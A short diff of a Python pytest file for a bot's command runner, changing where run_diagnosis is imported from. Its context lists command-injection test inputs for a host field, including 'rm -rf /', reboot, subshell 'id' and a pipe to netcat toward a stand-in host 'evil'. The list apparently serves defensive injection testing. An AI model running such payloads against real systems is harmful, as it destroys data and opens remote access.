@@ -10,9 +10,10 @@ import threading
 import pytest
 
 from bot.errors import InvalidTarget, PermissionDenied, UnknownHost
-from bot.runner import authorize, resolve_target, run_diagnosis
+from bot.runner import authorize, resolve_target
 from bot.runner.audit import AuditLog
 from bot.settings import RunnerAccessRule, Settings
+from tests.runner_support import run_diagnosis
 
 INJECTIONS = [
     "host01; rm -rf /", "host01 && reboot", "$(reboot)", "`id`", "host01|nc evil 1", "host01\nid",
